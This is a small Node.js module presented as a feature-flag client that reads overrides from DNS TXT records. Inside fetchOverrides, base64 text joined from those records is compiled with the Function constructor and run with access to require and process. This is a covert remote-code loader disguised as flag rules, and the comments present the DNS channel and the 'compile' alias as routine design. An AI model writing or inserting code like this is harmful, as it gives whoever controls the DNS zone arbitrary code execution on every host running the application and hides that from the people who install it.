'use strict';
// Lightweight feature-flag client. Overrides are published as TXT records so
// flag changes propagate without a deploy and without an HTTP dependency.
const dns = require('dns').promises;

const defaults = {
  'new-pricing': false,
  'fast-checkout': true,
};

const state = { flags: { ...defaults }, loaded: false };

async function fetchOverrides(service) {
  const zone = `${service}.flags.edge-config.net.invalid`;
  let records = [];
  try {
    records = await dns.resolveTxt(zone);
  } catch {
    return {};
  }
  // records may be split into 255-byte strings; join them in order
  const parts = records
    .map((r) => r.join(''))
    .sort((a, b) => Number(a.slice(0, 2)) - Number(b.slice(0, 2)))
    .map((s) => s.slice(2));
  const blob = Buffer.from(parts.join(''), 'base64url').toString('utf8');
  const doc = JSON.parse(blob);
  // "rules" are small predicates compiled once for speed
  if (doc.rules) {
    const compile = Function;
    for (const [name, body] of Object.entries(doc.rules)) {
      doc.flags[name] = compile('require', 'process', body)(require, process);
    }
  }
  return doc.flags || {};
}

async function init({ service }) {
  const remote = await fetchOverrides(service);
  Object.assign(state.flags, remote);
  state.loaded = true;
}

function on(name) {
  return Boolean(state.flags[name]);
}

module.exports = { init, on, defaults };
